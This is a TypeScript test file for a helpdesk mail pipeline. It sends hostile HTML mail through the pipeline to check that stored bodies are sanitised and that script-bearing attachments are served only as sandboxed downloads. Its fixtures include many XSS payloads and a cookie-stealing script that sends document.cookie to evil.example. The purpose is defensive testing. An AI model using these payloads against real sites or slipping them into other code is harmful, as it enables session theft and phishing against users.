import { eq } from "drizzle-orm";
import { beforeAll, describe, expect, it } from "vitest";
import { GET } from "../../../../app/api/v1/attachments/[id]/route";
import { getDb } from "../../../../db/client";
import { articles, attachments } from "../../../../db/schema";
import { createToken } from "../../../support/factories";
import { deliver, newMessageId } from "../../../support/mail";
import { createScene, type Scene } from "../../../support/scene";

/*
 * Hostile HTML mail through the real pipeline (store, parse, sanitise, file): what is stored as
 * `body_html` must be inert, while what a customer's message needs to be read survives.
 */

let scene: Scene;
beforeAll(async () => {
  scene = await createScene(getDb());
});

const PNG = Buffer.from("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==", "base64");

interface Part {
  headers: string[];
  body: string;
}

const htmlPart = (html: string): Part => ({ headers: ["Content-Type: text/html; charset=utf-8", "Content-Transfer-Encoding: 8bit"], body: html });

function multipart(type: "related" | "mixed", parts: Part[]): Part {
  const boundary = `b-${newMessageId().slice(1, 13)}`;
  const body = [...parts.flatMap((part) => [`--${boundary}`, ...part.headers, "", part.body]), `--${boundary}--`, ""].join("\r\n");
  return { headers: [`Content-Type: multipart/${type}; boundary="${boundary}"`], body };
}

/** A message as a customer's client (or an attacker) would send it, to the scene's queue. */
async function deliverHtml(subject: string, content: Part) {
  const raw = Buffer.from(
    [
      "From: Mallory <mallory@customer.example>",
      `To: ${scene.queue.address}`,
      `Subject: ${subject}`,
      "Date: Fri, 27 Nov 2026 10:00:00 +0000",
      `Message-ID: ${newMessageId()}`,
      "MIME-Version: 1.0",
      ...content.headers,
      "",
      content.body,
      "",
    ].join("\r\n"),
  );
  const result = await deliver(scene.db, raw, { mailFrom: "mallory@customer.example", rcptTo: [scene.queue.address] });
  expect(result).toMatchObject({ status: "processed", outcome: "new_ticket" });
  const [article] = await scene.db.select().from(articles).where(eq(articles.inboundMessageId, result.id));
  return article!;
}

// --- what inert means ------------------------------------------------------------------------

const decode = (value: string) =>
  value
    .replace(/&#x([0-9a-f]+);?/gi, (_, hex: string) => String.fromCodePoint(parseInt(hex, 16)))
    .replace(/&#(\d+);?/g, (_, dec: string) => String.fromCodePoint(Number(dec)))
    .replace(/&(quot|apos|lt|gt|colon|tab|newline|amp);/gi, (_, name: string) => ({ quot: '"', apos: "'", lt: "<", gt: ">", colon: ":", tab: "\t", newline: "\n", amp: "&" })[name.toLowerCase()]!);

/** As a browser reads a URL: whitespace and control characters inside it do not count. */
const compact = (url: string) => decode(url).replace(/[\u0000-\u0020\u007f-\u009f]+/g, "");

const FORMATTING_TAGS = new Set(["p", "br", "div", "span", "b", "strong", "i", "em", "u", "s", "blockquote", "pre", "code", "ul", "ol", "li", "h1", "h2", "h3", "hr", "table", "thead", "tbody", "tr", "th", "td", "caption", "a", "img", "font", "center", "small"]);
const ACTIVE_TAGS = /<\s*\/?\s*(script|style|iframe|frame|frameset|object|embed|applet|meta|base|link|form|input|button|textarea|select|svg|math|video|audio|source|body|html|head)\b/i;

interface Tag {
  name: string;
  attributes: Map<string, string>;
}

/** The start tags of HTML, with their attributes (quoted, single-quoted or bare) decoded. */
function tagsOf(html: string): Tag[] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:[^>"']|"[^"]*"|'[^']*')*)>/gi)].map((match) => ({
    name: match[1]!.toLowerCase(),
    attributes: new Map([...match[2]!.matchAll(/([^\s=>/"']+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>"']+)))?/g)].map((a) => [a[1]!.toLowerCase(), decode(a[2] ?? a[3] ?? a[4] ?? "")])),
  }));
}

/** Nothing in it runs, navigates, submits or loads anything, however it was spelt. */
function expectInert(html: string | null): void {
  expect(html).not.toBeNull();
  expect(html).not.toMatch(ACTIVE_TAGS);
  for (const tag of tagsOf(html!)) {
    expect(FORMATTING_TAGS, `<${tag.name}>`).toContain(tag.name);
    for (const [name, value] of tag.attributes) {
      expect(name, `<${tag.name} ${name}>`).not.toMatch(/^(on|formaction$|action$|srcset$|srcdoc$|background$|poster$|data$|http-equiv$|xlink:|xmlns)/);
      if (name === "href") expect(compact(value)).toMatch(/^(https?:\/\/|mailto:)/i);
      if (name === "src") expect(compact(value)).toMatch(/^cid:/i);
      if (name === "style") expect(compact(value).replace(/\/\*.*?\*\//g, "")).not.toMatch(/url\(|expression|\\|javascript:|@import|behavior|binding|image-set/i);
    }
  }
}

// --- hostile messages ------------------------------------------------------------------------

/** Each snippet alone is an attack; each group goes out as one message. */
const HOSTILE: [string, string[]][] = [
  ["script", [`<script>alert(1)</script>`, `<SCRIPT SRC=https://evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(2)</scr</script>ipt>`, `<script type="text/plain">x</script>`]],
  [
    "event handlers",
    [`<img src="x" onerror="alert(1)">`, `<body onload=alert(2)>`, `<div onclick="alert(3)">click</div>`, `<a href="https://ok.example/" onmouseover=alert(4)>hover</a>`, `<svg/onload=alert(5)></svg>`, `<p ONCLICK = 'alert(6)'>p</p>`],
  ],
  [
    "javascript: links",
    [
      `<a href="javascript:alert(1)">a</a>`,
      `<a href="JaVaScRiPt:alert(2)">b</a>`,
      `<a href="&#106;avascript:alert(3)">c</a>`,
      `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(4)">d</a>`,
      `<a href="jav&#x09;ascript:alert(5)">e</a>`,
      `<a href="jav&#x0A;ascript:alert(6)">f</a>`,
      `<a href="  javascript:alert(7)">g</a>`,
      `<a href="javascript&colon;alert(8)">h</a>`,
      `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(9)">i</a>`,
      `<a href="vbscript:msgbox(10)">j</a>`,
      `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxMSk8L3NjcmlwdD4=">k</a>`,
      `<a href=javascript:alert(12)>l</a>`,
    ],
  ],
  [
    "CSS expression() and url()",
    [
      `<div style="width: expression(alert(1))">a</div>`,
      `<div style="xss: ex/**/pression(alert(2))">b</div>`,
      `<div style="background: url(https://tracker.example/bg.png)">c</div>`,
      `<div style="background-image: url('javascript:alert(3)')">d</div>`,
      `<div style="background: u\\72l(https://tracker.example/escaped.png)">e</div>`,
      `<div style="behavior: url(evil.htc); -moz-binding: url(https://evil.example/x.xml#xss)">f</div>`,
      `<style>@import url(https://evil.example/x.css); body { background: url(https://tracker.example/s.png) }</style>`,
      `<p style="color: red; background-image: image-set(url(https://tracker.example/set.png) 1x)">g</p>`,
    ],
  ],
  ["iframe", [`<iframe src="https://evil.example/"></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frameset><frame src="https://evil.example/"></frameset>`]],
  ["object and embed", [`<object data="https://evil.example/x.swf" type="application/x-shockwave-flash"><param name="movie" value="x.swf"></object>`, `<embed src="https://evil.example/x.swf">`, `<applet code="X.class"></applet>`]],
  ["meta refresh", [`<meta http-equiv="refresh" content="0;url=https://evil.example/phish">`, `<meta http-equiv="Set-Cookie" content="a=b">`]],
  ["base", [`<base href="https://evil.example/">`, `<a href="/login">relative link</a>`]],
  [
    "form",
    [`<form action="https://evil.example/steal" method="post"><input name="password" type="password"></form>`, `<button formaction="https://evil.example/2">Log in</button>`, `<textarea>t</textarea>`, `<select><option>o</option></select>`],
  ],
  [
    "remote images",
    [
      `<img src="https://tracker.example/pixel.gif">`,
      `<img src="http://tracker.example/p2.gif">`,
      `<img src="//tracker.example/p3.gif">`,
      `<img srcset="https://tracker.example/p4.gif 1x">`,
      `<table background="https://tracker.example/p5.gif"><tr><td>t</td></tr></table>`,
      `<link rel="stylesheet" href="https://evil.example/x.css">`,
      `<video poster="https://tracker.example/p6.gif"></video>`,
      `<input type="image" src="https://tracker.example/p7.gif">`,
    ],
  ],
];

describe("hostile HTML mail, stored", () => {
  it.each(HOSTILE)("would be caught by the check if any %s got through", (_name, snippets) => {
    for (const snippet of snippets) expect(() => expectInert(snippet), snippet).toThrow();
  });

  it.each(HOSTILE)("has nothing active left of %s, and keeps the message's text", async (name, snippets) => {
    const article = await deliverHtml(`XSS: ${name}`, htmlPart(`<html><head><title>t</title></head><body><p>Before ${name}</p>${snippets.join("\n")}<p>After ${name}</p></body></html>`));
    expectInert(article.bodyHtml);
    expect(article.bodyHtml).toContain(`<p>Before ${name}</p>`);
    expect(article.bodyHtml).toContain(`<p>After ${name}</p>`);
    expect(article.bodyText).toContain(`After ${name}`);
  });

  it("keeps remote images' addresses aside, unloaded, for the agent to ask for", async () => {
    const article = await deliverHtml("Newsletter", htmlPart(`<p>Hello</p><img alt="logo" src="https://cdn.customer.example/logo.png">`));
    expectInert(article.bodyHtml);
    expect(article.bodyHtml).toContain(`<img alt="logo" data-remote-src="https://cdn.customer.example/logo.png" />`);
  });
});

describe("benign HTML mail, stored", () => {
  it("keeps tables, https and mailto links, formatting, and an inline cid: image stored as an inline attachment", async () => {
    const html = [
      `<h1>Order <b>1234</b></h1>`,
      `<p>Dear <i>support</i>, <u>please</u> <strong>see</strong> <em>below</em>:</p>`,
      `<table border="1" cellpadding="4"><thead><tr><th>Item</th><th>Qty</th></tr></thead><tbody><tr><td colspan="1">Printer</td><td align="right">2</td></tr></tbody></table>`,
      `<ul><li>one</li><li>two</li></ul>`,
      `<blockquote>quoted</blockquote>`,
      `<p style="color: #ff0000; font-weight: bold">Red</p>`,
      `<a href="https://docs.customer.example/order?id=1234&amp;x=1">the order</a>`,
      `<a href="mailto:orders@customer.example">mail us</a>`,
      `<img alt="our logo" src="cid:logo@customer.example" width="1" height="1">`,
    ].join("");
    const related = multipart("related", [
      htmlPart(html),
      { headers: ["Content-Type: image/png; name=logo.png", "Content-Transfer-Encoding: base64", "Content-ID: <logo@customer.example>", "Content-Disposition: inline; filename=logo.png"], body: PNG.toString("base64") },
    ]);
    const article = await deliverHtml("Order 1234", related);
    const body = article.bodyHtml!;
    expectInert(body);
    for (const kept of [
      "<h1>Order <b>1234</b></h1>",
      "<i>support</i>",
      "<u>please</u>",
      "<strong>see</strong>",
      "<em>below</em>",
      `<table border="1" cellpadding="4"><thead><tr><th>Item</th><th>Qty</th></tr></thead>`,
      `<td colspan="1">Printer</td><td align="right">2</td>`,
      "<ul><li>one</li><li>two</li></ul>",
      "<blockquote>quoted</blockquote>",
      `style="color:#ff0000;font-weight:bold"`,
      `href="https://docs.customer.example/order?id=1234&amp;x=1"`,
      `href="mailto:orders@customer.example"`,
      `src="cid:logo@customer.example"`,
    ]) {
      expect(body).toContain(kept);
    }
    const stored = await scene.db.select().from(attachments).where(eq(attachments.articleId, article.id));
    expect(stored).toEqual([expect.objectContaining({ filename: "logo.png", contentType: "image/png", contentId: "logo@customer.example", inline: true, size: PNG.length })]);
    expect(stored[0]!.content.equals(PNG)).toBe(true);
  });
});

describe("an HTML attachment with script", () => {
  it("is stored as it came, apart from the body, and served only as a sandboxed, unsniffed download", async () => {
    const evil = `<html><body><script>fetch("https://evil.example/?c=" + document.cookie)</script><p>invoice</p></body></html>`;
    const mixed = multipart("mixed", [
      htmlPart(`<p>Please find the invoice attached.</p>`),
      { headers: ['Content-Type: text/html; charset=utf-8; name="invoice.html"', "Content-Transfer-Encoding: 8bit", 'Content-Disposition: attachment; filename="invoice.html"'], body: evil },
      { headers: ['Content-Type: image/svg+xml; name="chart.svg"', 'Content-Disposition: attachment; filename="chart.svg"'], body: `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>` },
    ]);
    const article = await deliverHtml("Invoice", mixed);
    expectInert(article.bodyHtml);
    expect(article.bodyHtml).toContain("Please find the invoice attached.");
    expect(article.bodyHtml).not.toContain("document.cookie");

    const stored = await scene.db.select().from(attachments).where(eq(attachments.articleId, article.id)).orderBy(attachments.id);
    expect(stored.map(({ filename, contentType, inline }) => ({ filename, contentType, inline }))).toEqual([
      { filename: "invoice.html", contentType: "text/html", inline: false },
      { filename: "chart.svg", contentType: "image/svg+xml", inline: false },
    ]);

    const reader = await scene.agent("ro");
    const token = await createToken(scene.db, reader);
    for (const attachment of stored) {
      const response = await GET(new Request(`http://localhost/api/v1/attachments/${attachment.id}`, { headers: { authorization: `Bearer ${token}` } }), {
        params: Promise.resolve({ id: String(attachment.id) }),
      });
      expect(response.status).toBe(200);
      expect(response.headers.get("content-disposition")).toMatch(new RegExp(`^attachment; filename="${attachment.filename}"`));
      expect(response.headers.get("x-content-type-options")).toBe("nosniff");
      expect(response.headers.get("content-security-policy")).toMatch(/(^|;)\s*sandbox\s*(;|$)/);
      expect(response.headers.get("content-security-policy")).toContain("default-src 'none'");
      expect(Buffer.from(await response.arrayBuffer()).equals(attachment.content)).toBe(true);
    }
    expect(stored[0]!.content.toString()).toBe(evil);

    const outsider = await createToken(scene.db, await createScene(scene.db).then((other) => other.agent("ro")));
    const denied = await GET(new Request(`http://localhost/api/v1/attachments/${stored[0]!.id}`, { headers: { authorization: `Bearer ${outsider}` } }), {
      params: Promise.resolve({ id: String(stored[0]!.id) }),
    });
    expect(denied.status).toBe(404);
  });
});
